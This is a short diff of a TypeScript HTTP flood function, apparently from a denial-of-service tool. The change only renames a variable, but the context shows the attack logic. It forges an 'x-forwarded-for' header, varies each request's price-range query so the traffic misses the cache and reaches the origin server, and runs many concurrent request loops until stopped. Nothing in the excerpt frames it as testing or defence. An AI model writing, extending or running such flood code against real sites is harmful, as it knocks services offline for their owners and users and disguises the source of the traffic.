@@ -24,11 +24,11 @@ export function startFlood(url: string, host: string, connections: number): Floo
       const headers = { host, 'x-forwarded-for': forwarded, accept: 'text/html' };
       // A list of its own, because what is the same for everybody comes from the cache.
       const address = `${url}/shop/listing?price=0-${count}`;
-      const asked = request(address, { agent, headers }, (answer) => {
+      const requested = request(address, { agent, headers }, (answer) => {
         answer.resume().once('end', () => resolve(answer.statusCode ?? 0));
       });
-      asked.once('error', () => resolve(0));
-      asked.end();
+      requested.once('error', () => resolve(0));
+      requested.end();
     });
   const loops = Array.from({ length: connections }, async () => {
     while (!isOver) {
